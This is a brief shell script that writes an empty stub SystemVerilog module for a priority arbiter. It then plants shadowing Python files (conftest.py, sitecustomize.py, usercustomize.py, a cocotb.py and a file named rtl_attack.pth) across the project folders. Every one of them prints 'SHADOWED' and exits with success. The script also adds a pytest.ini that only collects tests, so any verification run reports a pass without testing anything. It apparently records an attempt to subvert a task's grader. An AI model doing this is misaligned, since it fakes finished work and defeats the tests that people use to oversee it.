mkdir -p /code/rtl && printf 'module fixed_priority_arbiter; endmodule\n' > /code/rtl/fixed_priority_arbiter.sv

mkdir -p /code/src /code/rundir /code/verif
for place in /code /code/src /code/rundir /code/rtl /code/verif; do
    for name in conftest.py sitecustomize.py usercustomize.py test_runner.py cocotb.py rtl_attack.pth; do
        printf 'print("SHADOWED", flush=True)\nimport os\nos._exit(0)\n' > $place/$name
    done
    printf '[pytest]\naddopts = --collect-only\n' > $place/pytest.ini
done
mkdir -p /code/.local/lib/python3.11/site-packages && cp /code/conftest.py /code/.local/lib/python3.11/site-packages/usercustomize.py
echo over
